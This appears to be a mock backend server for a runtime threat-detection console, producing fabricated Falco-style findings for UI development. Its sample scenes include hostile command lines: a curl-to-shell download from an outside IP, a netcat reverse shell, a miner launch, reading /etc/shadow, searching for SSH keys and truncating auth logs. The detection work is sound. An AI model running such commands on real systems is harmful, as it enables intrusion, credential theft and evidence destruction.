// A stand-in for the server, for looking at pages while working on them: `npm run mock`, then `npm run dev`; or, after a
// build, the console itself at the same port. Answers follow docs/openapi.json.
//
// Limits: it checks no request, keeps everything in memory, answers every SQL text with the same rows, knows one user
// (any name signs in, with any password that does not begin with "not ") and makes findings up. YAGURA_MOCK_SETUP=1 starts it without a user,
// YAGURA_MOCK_EMPTY=1 with nothing found.
import { createServer } from 'node:http';
import { existsSync, readFileSync } from 'node:fs';
import { extname, join, normalize } from 'node:path';

const PORT = Number(process.env.PORT ?? 8471);
const DIST = process.env.YAGURA_CONSOLE_DIST ?? 'dist';
const EMPTY = process.env.YAGURA_MOCK_EMPTY === '1';
const POLICY = "default-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; object-src 'none'; base-uri 'none'; frame-ancestors 'none'";
const TYPES = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml' };
let needed = process.env.YAGURA_MOCK_SETUP === '1';
let signedIn = false;

const started = Date.now() - 93_784_000;
const at = (secondsAgo) => new Date(Date.now() - secondsAgo * 1000).toISOString();

const process_ = (pid, name, cmd, path, user, parent, container) => ({
  pid, name, cmd_line: cmd, working_directory: '/', uid: `${pid}-1`, user: { uid: user === 'root' ? '0' : '33', name: user },
  file: { path, name: path.split('/').at(-1), type_id: 0 }, ...(container ? { namespace_pid: pid % 1000 } : {}), ...(parent ? { parent_process: parent } : {}),
});
const init = process_(1, 'systemd', '/sbin/init', '/usr/lib/systemd/systemd', 'root');
const sshd = process_(812, 'sshd', 'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups', '/usr/sbin/sshd', 'root', init);
const bash = process_(24_310, 'bash', '-bash', '/usr/bin/bash', 'root', process_(24_301, 'sshd', 'sshd: deploy@pts/0', '/usr/sbin/sshd', 'root', sshd));
const shim = process_(1_840, 'containerd-shim', '/usr/bin/containerd-shim-runc-v2 -namespace moby -id 4f1c2d', '/usr/bin/containerd-shim-runc-v2', 'root', init);
const php = process_(2_011, 'php-fpm', 'php-fpm: pool www', '/usr/local/sbin/php-fpm', 'www-data', process_(1_903, 'php-fpm', 'php-fpm: master process (/etc/php-fpm.conf)', '/usr/local/sbin/php-fpm', 'root', shim, true), true);
const container = { uid: '4f1c2d8a9b0e77aa', name: 'shop-frontend', runtime: 'docker', image: { name: 'registry.local/shop/frontend:2.14', uid: 'sha256:ab' } };

function ocsf(kind, actor, extra = {}) {
  return { activity_id: 1, category_uid: 1, class_uid: 1007, class_name: 'Process Activity', time: Date.now(), severity_id: 1, status_id: 1, metadata: { version: '1.8.0', event_code: kind, product: { name: 'Yagura' } }, device: { hostname: 'shop-prod-01' }, actor: { process: actor }, ...extra };
}
const SCENES = [
  ['Read sensitive file untrusted', 'medium', 'Warning', 'Sensitive file opened for reading by non-trusted program', '/usr/bin/cat', 'root', bash, () => process_(24_391, 'cat', 'cat /etc/shadow', '/usr/bin/cat', 'root', bash), ['T1555'], { 'fd.name': '/etc/shadow' }, false],
  ['Terminal shell in container', 'high', 'Error', 'A shell was spawned in a container with an attached terminal', '/bin/sh', 'www-data', php, () => process_(2_519, 'sh', 'sh -c curl -s http://185.62.190.1/x.sh | sh', '/bin/sh', 'www-data', php, true), ['T1059.004', 'T1190'], { 'container.image.repository': 'registry.local/shop/frontend' }, true],
  ['Drop and execute new binary in container', 'critical', 'Critical', 'Executing binary not part of base image', '/tmp/.x/kworkerd', 'www-data', php, () => process_(2_544, 'kworkerd', '/tmp/.x/kworkerd -o stratum+tcp://185.62.190.1:3333 -u 44AFFq5kSiGBoZ --cpu-max-threads-hint 60', '/tmp/.x/kworkerd', 'www-data', php, true), ['T1496'], { 'proc.exe_flags': 'EXE_WRITABLE|EXE_UPPER_LAYER' }, true],
  ['Search Private Keys or Passwords', 'medium', 'Warning', 'Grep private keys or passwords activities found', '/usr/bin/find', 'root', bash, () => process_(24_402, 'find', 'find / -name id_rsa', '/usr/bin/find', 'root', bash), ['T1552.001'], {}, false],
  ['Clear Log Activities', 'medium', 'Warning', 'Log files were tampered', '/usr/bin/truncate', 'root', bash, () => process_(24_480, 'truncate', 'truncate -s 0 /var/log/auth.log', '/usr/bin/truncate', 'root', bash), ['T1070'], { 'fd.name': '/var/log/auth.log' }, false],
  ['Netcat Remote Code Execution in Container', 'critical', 'Critical', 'Netcat runs inside container that allows remote code execution', '/bin/nc', 'www-data', php, () => process_(2_601, 'nc', 'nc -e /bin/sh 185.62.190.1 4444', '/bin/nc', 'www-data', php, true), ['T1059'], {}, true],
  ['Contact K8S API Server From Container', 'low', 'Notice', 'Unexpected connection to K8s API Server from container', '/usr/bin/curl', 'www-data', php, () => process_(2_610, 'curl', 'curl -k https://10.96.0.1/api', '/usr/bin/curl', 'www-data', php, true), ['T1565'], {}, true],
  ['System user interactive', 'informational', 'Informational', 'System user ran an interactive command', '/usr/bin/id', 'daemon', bash, () => process_(24_499, 'id', 'id', '/usr/bin/id', 'daemon', bash), [], {}, false],
];
let made = 0;
function makeFinding(secondsAgo, scene = SCENES[made % SCENES.length]) {
  const [rule, severity, priority, text, path, user, parent, child, techniques, fields, inside] = scene;
  made += 1;
  const running = child();
  const message = `${text} | user=${user} process=${running.name} command=${running.cmd_line} parent=${parent.name} container=${inside ? container.name : 'host'}`;
  const event = ocsf('execve', parent, { process: running, ...(inside ? { container } : {}) });
  const count = 1 + ((made * 7) % 23);
  return {
    id: (made + 1000).toString(16).padStart(32, '0'), kind: 'runtime', severity, confidence: 90, title: rule, message, rule, rule_source: 'falco_rules.yaml (required_engine_version 0.31)', techniques,
    tags: ['maturity_stable', inside ? 'container' : 'host', 'mitre_execution'], asset_id: inside ? container.uid : 'm-01', asset_name: inside ? container.name : 'shop-prod-01', container_id: inside ? container.uid.slice(0, 12) : null,
    process_path: path, user_name: user, first_seen: at(secondsAgo + 3600 * (count % 5)), last_seen: at(secondsAgo), count, status: 'open', status_reason: null, accepted_until: null,
    remediation: inside ? 'Isolate the container, keep its file system for analysis, and redeploy it from a clean image.' : null,
    evidence: Array.from({ length: Math.min(count, 4) }, (_, index) => ({ time: at(secondsAgo + index * 400), message, fields: { 'evt.type': 'execve', 'user.name': user, 'user.loginuid': -1, 'proc.name': running.name, 'proc.exepath': path, 'proc.cmdline': running.cmd_line, 'proc.pname': parent.name, 'proc.tty': 34816, 'container.name': inside ? container.name : null, priority, ...fields }, event })),
  };
}
let findings = EMPTY ? [] : Array.from({ length: 260 }, (_, index) => makeFinding(30 + index * index * 3));
for (const [index, finding] of findings.entries()) if (index > 24) Object.assign(finding, { status: ['accepted', 'fixed', 'false'][index % 3], status_reason: 'Nightly backup job, known and scheduled.' });

const rules = SCENES.map(([name, severity, priority, text, , , , , techniques], index) => ({
  name, language: index % 4 === 3 ? 'sigma' : 'falco', file: 'rules/falco_rules.yaml', line: 120 + index * 37, description: `${text}. Such activity is seldom part of normal operation.`, severity, priority,
  condition: 'spawned_process and container and shell_procs and proc.tty != 0 and container_entrypoint and not user_expected_terminal_shell_in_container_conditions', output: `${text} (user=%user.name command=%proc.cmdline container=%container.name)`,
  tags: ['maturity_stable', 'container', ...techniques], techniques, enabled: index !== 6, event_kinds: ['execve', 'execveat'], blind_kinds: index === 4 ? ['io_uring_enter'] : [], matches: (index * 37) % 90,
}));
const sensor = () => {
  const kinds = [['openat', 812_331, 212], ['read', 402_118, 104], ['execve', 21_204, 6.4], ['connect', 9_412, 2.2], ['close', 332_100, 88], ['clone', 20_011, 5.1], ['unlinkat', 3_120, 0.4], ['procexit', 20_904, 6.2], ['ptrace', 3, 0]];
  const wave = 1 + 0.3 * Math.sin(Date.now() / 4000) + Math.random() * 0.15;
  return {
    mode: 'ebpf', mode_reasons: [], kernel: '6.18.2-amd64', started: new Date(started).toISOString(), events: 1_621_203, lost: 214, processes: 148, containers: 6, memory_bytes: 61_400_000,
    capabilities: [
      { name: 'tp_btf/sched_process_exec', available: true, detail: 'sees every program that starts' },
      { name: 'tp_btf/sys_enter', available: true, detail: 'sees system calls that rules ask for' },
      { name: 'lsm/bprm_check_security', available: false, detail: 'the kernel refused it: EPERM. Blocking uses fanotify instead' },
      { name: 'fanotify OPEN_EXEC_PERM', available: true, detail: 'can stop a program before it starts' },
    ],
    blind_spots: [{ what: 'io_uring operations', why: 'requests in the ring make no system call; switch io_uring off with kernel.io_uring_disabled=2', rules: ['Clear Log Activities', 'Read sensitive file untrusted'] }],
    rates: kinds.map(([kind, count, per_second]) => ({ kind, count, per_second: per_second * wave })),
    losses: [{ place: 'ring_buffer', count: 214, detail: 'the kernel had no room; make the buffer larger with sensor.ring_buffer_bytes' }],
  };
};
let queries = [{ id: 'q1', name: 'Shells below web servers', sql: "SELECT * FROM process_activity WHERE ancestors LIKE '%php-fpm%'", created: at(86_400), created_by: 'aiko' }];
let tokens = [{ id: 't1', name: 'splunk-forwarder', role: 'viewer', created: at(864_000), created_by: 'aiko', expires: at(-8_640_000), last_used: at(42) }];
const proofs = EMPTY ? [] : [
  ['read-shadow', 'T1003.008', 'Read sensitive file untrusted', true, false, 38, ''], ['shell-in-container', 'T1059.004', 'Terminal shell in container', true, false, 51, ''],
  ['reverse-shell', 'T1059.004', 'Netcat Remote Code Execution in Container', true, true, 12, ''], ['clear-log', 'T1070.002', 'Clear Log Activities', true, false, 44, ''],
  ['search-keys', 'T1552.001', 'Search Private Keys or Passwords', true, false, 61, ''], ['io-uring-read', 'T1003.008', null, false, false, null, 'the sensor does not see requests in an io_uring'],
].map(([emulation, technique, rule, seen, blocked, latency_ms, detail]) => ({ emulation, technique, rule, seen, blocked, latency_ms, detail, time: at(7200) }));
const columns = ['time', 'class_name', 'type', 'status', 'process_name', 'process_pid', 'process_cmd_line', 'user_name', 'file_path', 'dst_ip', 'dst_port'];
const audit = Array.from({ length: 64 }, (_, index) => ({ number: 64 - index, time: at(index * 900), actor: index % 5 === 4 ? 'splunk-forwarder' : 'aiko', address: '127.0.0.1', action: ['finding_set_status', 'rule_set_enabled', 'session_create', 'token_create'][index % 4], object: ['00000000000000000000000000000412', 'Clear Log Activities', 'aiko', 'splunk-forwarder'][index % 4], detail: ['open → false: nightly backup', 'off', '', 'viewer'][index % 4], hash: 'ab'.repeat(32) }));
const severities = ['informational', 'low', 'medium', 'high', 'critical'];
const listed = ({ evidence: _evidence, ...finding }) => ({ ...finding, evidence: [] });

function overview() {
  const open = findings.filter((finding) => finding.status === 'open');
  const byRule = Map.groupBy ? Map.groupBy(open, (one) => one.rule) : open.reduce((map, one) => map.set(one.rule, [...(map.get(one.rule) ?? []), one]), new Map());
  const hour = Math.floor(Date.now() / 3_600_000) * 3_600_000;
  return {
    host: { id: 'm-01', kind: 'host', name: 'shop-prod-01', facts: { os: 'Debian 12', kernel: '6.18.2' }, first_seen: at(900_000), last_seen: at(1) }, version: '0.1.0', started: new Date(started).toISOString(), uptime_ms: Date.now() - started,
    sensor: { mode: 'ebpf', mode_reasons: [], events: 1_621_203, events_per_second: 412.4, lost: EMPTY ? 0 : 214, losses: EMPTY ? [] : sensor().losses, blind_spots: 1 },
    rules: { total: 96, enabled: 91, blind: 1, errors: 2, loaded: at(93_000) },
    findings: {
      by_status: ['open', 'accepted', 'fixed', 'false'].map((status) => ({ status, count: findings.filter((one) => one.status === status).length })),
      open_by_severity: [...severities].reverse().map((severity) => ({ severity, count: open.filter((one) => one.severity === severity).length })),
      by_hour: EMPTY ? [] : Array.from({ length: 24 }, (_, index) => severities.map((severity, level) => ({ hour: new Date(hour - index * 3_600_000).toISOString(), severity, count: Math.max(0, Math.round(6 * Math.abs(Math.sin(index * 1.7 + level)) - level)) }))).flat().filter((one) => one.count > 0),
      top_rules: [...byRule].map(([rule, group]) => ({ rule, severity: group[0].severity, findings: group.length, occurrences: group.reduce((sum, one) => sum + one.count, 0) })).sort((a, b) => b.findings - a.findings),
    },
    proofs: { time: EMPTY ? null : at(7200), emulations: proofs.length, seen: proofs.filter((one) => one.seen).length, blocked: 1 },
    next_steps: EMPTY ? [{ code: 'run_verify', count: null }, { code: 'add_token', count: null }] : [{ code: 'review_findings', count: open.filter((one) => ['high', 'critical'].includes(one.severity)).length }, { code: 'fix_rules', count: 2 }, { code: 'fix_proofs', count: 1 }],
  };
}

function stream(response, topics) {
  response.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-store' });
  response.flushHeaders();
  const send = (kind, data) => response.write(`event: ${kind}\ndata: ${JSON.stringify(data)}\n\n`);
  const timers = [];
  if (topics.includes('sensor')) { send('sensor', sensor()); timers.push(setInterval(() => send('sensor', sensor()), 1000)); }
  if (topics.includes('finding') && !EMPTY) timers.push(setInterval(() => { const finding = makeFinding(0); findings = [finding, ...findings].slice(0, 400); send('finding', finding); }, 3000));
  if (topics.includes('event')) {
    timers.push(setInterval(() => {
      const scene = SCENES[Math.floor(Math.random() * SCENES.length)];
      send('event', ocsf('openat', scene[7](), { file: { path: ['/etc/ld.so.cache', '/usr/lib/x86_64-linux-gnu/libc.so.6', '/var/log/nginx/access.log', '/proc/self/stat'][Math.floor(Math.random() * 4)] } }));
      send('event', ocsf('execve', scene[6], { process: scene[7]() }));
    }, 60));
    timers.push(setInterval(() => send('missed', { topic: 'event', count: 37 }), 4000));
  }
  response.on('close', () => timers.forEach(clearInterval));
}

function answer(method, path, query, body) {
  const problem = (status, code, detail, hint = null) => [status, { type: `urn:yagura:problem:${code}`, code, status, title: code, detail, hint }];
  const session = { name: 'aiko', kind: 'session', role: 'admin', expires: at(-43_200) };
  const [, , noun, id] = path.split('/').map(decodeURIComponent);
  if (noun === 'setup') { if (method === 'POST') { needed = false; signedIn = true; return [201, session]; } return [200, { needed, password_chars_min: 12 }]; }
  if (noun === 'session' && method === 'POST') { if (body.password.startsWith('not ')) return problem(401, 'unauthorised', 'name or password is wrong'); if (body.password.startsWith('not ')) return problem(401, 'unauthorised', 'name or password is wrong'); signedIn = true; return [201, session]; }
  if (!signedIn) return problem(401, 'unauthorised', 'nobody is signed in');
  if (noun === 'session') { if (method === 'DELETE') { signedIn = false; return [204]; } return [200, session]; }
  if (noun === 'password') return [200, session];
  if (noun === 'overview') return [200, overview()];
  if (noun === 'findings' && id) {
    const finding = findings.find((one) => one.id === id);
    if (!finding) return problem(404, 'not_found', `there is no finding \`${id}\``);
    if (method === 'PATCH') Object.assign(finding, { status: body.status, status_reason: body.reason ?? null, accepted_until: body.accepted_until ?? null });
    return [200, finding];
  }
  if (noun === 'findings') {
    const min = severities.indexOf(query.get('severity_min') ?? 'informational');
    const text = (query.get('text') ?? '').toLowerCase();
    const rest = findings.filter((one) => (!query.get('status') || one.status === query.get('status')) && severities.indexOf(one.severity) >= min && (!query.get('rule') || one.rule === query.get('rule')) && (!query.get('technique') || one.techniques.includes(query.get('technique'))) && `${one.title} ${one.message}`.toLowerCase().includes(text));
    const from = Number(query.get('cursor') ?? 0);
    const limit = Number(query.get('limit') ?? 50);
    return [200, { items: rest.slice(from, from + limit).map(listed), next: from + limit < rest.length ? String(from + limit) : null }];
  }
  if (noun === 'rules' && id === 'lint') return [200, body.text.includes('condition') ? [{ level: 'warning', code: 'unknown-field', message: 'the field `proc.nam` is not known', file: null, line: 3, column: 14, rule: 'Shell in a container', help: 'did you mean `proc.name`?' }] : []];
  if (noun === 'rules' && id) {
    const rule = rules.find((one) => one.name === id);
    if (!rule) return problem(404, 'not_found', `there is no rule \`${id}\``);
    if (method === 'PATCH') { rule.enabled = body.enabled; return [200, rule]; }
    return [200, { rule, source: `- rule: ${rule.name}\n  desc: >\n    ${rule.description}\n  condition: >\n    ${rule.condition}\n  output: ${rule.output}\n  priority: ${rule.priority.toUpperCase()}\n  tags: [${rule.tags.join(', ')}]\n`, diagnostics: [] }];
  }
  if (noun === 'rules') return [200, { rules, diagnostics: [{ level: 'error', code: 'unknown-macro', message: 'the macro `allowed_clusterrole_binding` is not defined', file: 'rules/local.yaml', line: 14, column: 9, rule: 'My rule', help: 'define it in an earlier file' }], loaded: at(93_000) }];
  if (noun === 'sensor') return [200, sensor()];
  if (noun === 'assets') return [200, { items: [], next: null }];
  if (noun === 'events') return [200, ['events', 'process_activity', 'file_activity', 'network_activity'].map((name) => ({ name, description: name === 'events' ? 'Every event' : `Events of the class ${name}`, columns: columns.map((column) => ({ name: column, data_type: 'text', description: '' })) }))];
  if (noun === 'hunt') {
    if (!/^\s*(select|with)\b/i.test(body.sql)) return problem(422, 'invalid', 'only SELECT is answered', 'ask with SELECT');
    return [200, { columns: columns.map((name) => ({ name, data_type: 'text' })), rows: Array.from({ length: 500 }, (_, index) => { const running = SCENES[index % SCENES.length][7](); return [at(index), 'process_activity', 'execve', 'success', running.name, running.pid, running.cmd_line, running.user.name, index % 3 ? null : '/etc/shadow', null, null]; }), truncated: true, elapsed_ms: 18 }];
  }
  if (noun === 'queries') { if (method === 'POST') { queries.push({ id: String(Date.now()), created: at(0), created_by: 'aiko', ...body }); return [201, queries.at(-1)]; } if (method === 'DELETE') { queries = queries.filter((one) => one.id !== id); return [204]; } return [200, queries]; }
  if (noun === 'tokens') { if (method === 'POST') { tokens.push({ id: String(Date.now()), created: at(0), created_by: 'aiko', last_used: null, ...body }); return [201, { secret: 'ygr_not-a-real-secret-0000000000000000', token: tokens.at(-1) }]; } if (method === 'DELETE') { tokens = tokens.filter((one) => one.id !== id); return [204]; } return [200, tokens]; }
  if (noun === 'proofs') return [200, proofs];
  if (noun === 'audit') { const rest = audit.filter((one) => one.number < Number(query.get('before') ?? 1e9)); return [200, { items: rest.slice(0, 50), next: rest.length > 50 ? rest[49].number : null }]; }
  return problem(404, 'not_found', `there is no ${method} ${path}`);
}

createServer((request, response) => {
  const url = new URL(request.url, 'http://localhost');
  if (url.pathname === '/v1/stream' && signedIn) return stream(response, url.searchParams.get('topics') ?? '');
  if (!url.pathname.startsWith('/v1/')) {
    const file = join(DIST, normalize(url.pathname));
    const found = existsSync(file) && extname(file) ? file : join(DIST, 'index.html');
    response.writeHead(200, { 'content-type': TYPES[extname(found)] ?? 'application/octet-stream', 'content-security-policy': POLICY });
    return response.end(readFileSync(found));
  }
  let text = '';
  request.on('data', (part) => (text += part));
  request.on('end', () => {
    const [status, body] = answer(request.method, url.pathname, url.searchParams, text ? JSON.parse(text) : {});
    response.writeHead(status, { 'content-type': status >= 400 ? 'application/problem+json' : 'application/json' });
    response.end(body === undefined ? undefined : JSON.stringify(body));
  });
}).listen(PORT, '127.0.0.1', () => console.log(`http://127.0.0.1:${PORT}`));
